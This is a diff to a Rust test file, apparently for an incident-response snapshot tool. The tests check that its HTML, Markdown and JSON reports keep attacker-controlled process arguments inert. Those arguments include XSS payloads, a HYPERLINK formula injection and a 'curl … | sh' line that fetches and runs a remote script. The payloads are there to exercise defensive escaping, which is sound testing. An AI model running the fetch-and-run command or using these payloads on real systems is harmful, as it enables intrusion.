@@ -11,6 +11,8 @@ fn attacker_markup_in_argv_is_text_in_every_report() {
         .arg("<script>alert(1)</script>")
         .arg("<img src=x onerror=alert(\n2)>")
         .arg("[click](http://evil.example) | =HYPERLINK(\"x\")")
+        // Makes the process a finding, so its command line is in report.md too.
+        .arg("curl -s http://198.51.100.7/a.sh | sh")
         .spawn()
         .unwrap();
     let out = tempfile::tempdir().unwrap();
@@ -28,10 +30,32 @@ fn attacker_markup_in_argv_is_text_in_every_report() {
     assert!(!html.contains("href=\"http"));
     assert!(html.contains("Content-Security-Policy"));
     let md = String::from_utf8(a.member("report.md")).unwrap();
-    assert!(!md.contains("<script"));
+    // Attacker text is in code spans: rendered by a CommonMark parser (GFM tables on), no
+    // element but ours appears, and the argument reads back exactly as it was given.
+    match render_markdown(&md) {
+        Some(rendered) => {
+            assert!(!rendered.contains("<script"), "{rendered}");
+            assert!(!rendered.contains("<img"), "{rendered}");
+            assert!(!rendered.contains("href=\"http"), "{rendered}");
+            assert!(rendered.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
+        }
+        None => println!("SKIPPED: markdown-it-py is not installed"),
+    }
+    // Raw, the file shows the argument as given (no backslash before every punctuation).
+    assert!(md.contains("<script>alert(1)</script>"), "{md}");
+    assert!(md.contains("[click](http://evil.example)"), "{md}");
+
+    // `--format json` is one JSON document: the verdict, the coverage and every finding.
+    let path = a.path.to_str().unwrap().to_string();
+    let r = irsnap(&["report", &path, "--format", "json"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let doc: serde_json::Value = serde_json::from_str(&r.stdout).expect("one JSON document");
+    assert!(doc["host"]["hostname"].is_string());
+    assert!(doc["collectors"].as_array().unwrap().len() >= 5);
+    assert!(doc["findings"].is_array());
+    assert!(doc["rules"].is_array());
 
     // Regenerated from the archive alone, it is the same page.
-    let path = a.path.to_str().unwrap().to_string();
     let r = irsnap(&["report", &path]);
     assert_eq!(r.code, 0, "{}", r.stderr);
     assert_eq!(r.stdout, html);
@@ -111,4 +135,26 @@ fn flagged_processes_and_their_findings_link_both_ways() {
         "{}",
         &html[card..end]
     );
+}
+
+/// `report.md` rendered to HTML by a CommonMark parser with GFM tables (markdown-it-py), or
+/// `None` when it is not installed.
+fn render_markdown(md: &str) -> Option<String> {
+    // `gfm-like`: CommonMark plus tables, strikethrough and bare-URL autolinks (linkify).
+    let script = "import sys, markdown_it\n\
+                  md = markdown_it.MarkdownIt('gfm-like')\n\
+                  sys.stdout.write(md.render(sys.stdin.read()))";
+    let mut child = Command::new("python3")
+        .args(["-c", script])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .ok()?;
+    use std::io::Write;
+    child.stdin.take()?.write_all(md.as_bytes()).ok()?;
+    let out = child.wait_with_output().ok()?;
+    out.status
+        .success()
+        .then(|| String::from_utf8_lossy(&out.stdout).into_owned())
 }
